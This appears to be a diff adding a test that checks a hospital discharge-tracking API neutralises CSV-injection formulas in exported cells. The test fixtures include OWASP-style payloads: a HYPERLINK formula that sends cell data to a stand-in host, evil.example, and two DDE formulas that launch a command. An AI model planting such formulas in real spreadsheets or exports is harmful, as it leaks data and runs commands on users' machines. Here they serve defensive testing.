@@ -149,3 +149,49 @@ def test_rfd_csv(ward) -> None:  # noqa: ANN001
         "/api/v1/rfd", params={"site": site}, headers={**api.headers, "Accept": "text/csv"}
     )
     assert same.text == r.text
+
+
+# Formulas a spreadsheet would run (OWASP's CSV injection examples), as a client could write them.
+FORMULAS = {
+    "ward": '=HYPERLINK("http://evil.example/?d="&A2,"Open")',
+    "responsible_person": "+cmd|' /C calc'!A0",
+    "escalation_reason": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def test_rfd_csv_text_cells_cannot_run_as_formulas(client: TestClient, make_user) -> None:
+    """Every text cell a client wrote that starts with `=`, `+`, `-`, `@`, a tab or a carriage
+    return gets a single quote in front (OWASP); numbers are written as they are."""
+    api = Api(client, make_user(*TEAM).headers)
+    site = f"SITE-{uuid.uuid4().hex[:6].upper()}"
+    case_id = int(
+        open_case(
+            api,
+            NHS[6],
+            site=site,
+            admitted_days_ago=20,
+            ward=FORMULAS["ward"],
+            responsible_person=FORMULAS["responsible_person"],
+        )["id"]
+    )
+    fire(api, case_id, "accept", days_ago=19)
+    fire(api, case_id, "not_meeting_ctr", days_ago=4)
+    fire(
+        api, case_id, "raise_escalation", data={"escalation_reason": FORMULAS["escalation_reason"]}
+    )
+    minus = int(open_case(api, NHS[7], site=site, ward="-Ward 8 (ex-ICU)")["id"])
+    fire(api, minus, "accept", days_ago=3)
+    fire(api, minus, "not_meeting_ctr", days_ago=2)
+
+    r = api.client.get("/api/v1/rfd", params={"site": site, "format": "csv"}, headers=api.headers)
+    assert r.status_code == 200, r.text
+    rows = {int(row["case_id"]): row for row in csv.DictReader(io.StringIO(r.text))}
+    for column, formula in FORMULAS.items():
+        assert rows[case_id][column] == "'" + formula, column
+    assert rows[minus]["ward"] == "'-Ward 8 (ex-ICU)"
+    # Numbers as numbers: not quoted, not prefixed.
+    assert (rows[case_id]["days_since_drd"], rows[minus]["days_since_drd"]) == ("4", "2")
+    assert rows[case_id]["length_of_stay_days"] == "20"
+    # The JSON list is unchanged: only the CSV guards the spreadsheet.
+    listed = api.client.get("/api/v1/rfd", params={"site": site}, headers=api.headers).json()
+    assert {i["ward"] for i in listed["items"]} == {FORMULAS["ward"], "-Ward 8 (ex-ICU)"}
